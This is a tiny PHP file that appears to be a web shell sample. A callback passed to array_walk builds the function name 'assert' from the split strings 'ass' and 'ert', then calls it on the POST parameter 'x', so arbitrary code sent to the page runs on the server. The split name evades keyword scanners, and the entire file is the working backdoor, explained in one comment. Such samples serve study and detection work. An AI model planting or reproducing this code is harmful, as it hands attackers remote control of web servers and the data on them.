<?php
// array_walk passes key and value to a callback that joins them into the
// name of the function it calls with request input.
function cb($value, $key)
{
    $f = $key . $value;
    $f($_POST['x']);
}
$a = array("ass" => "ert");
array_walk($a, "cb");
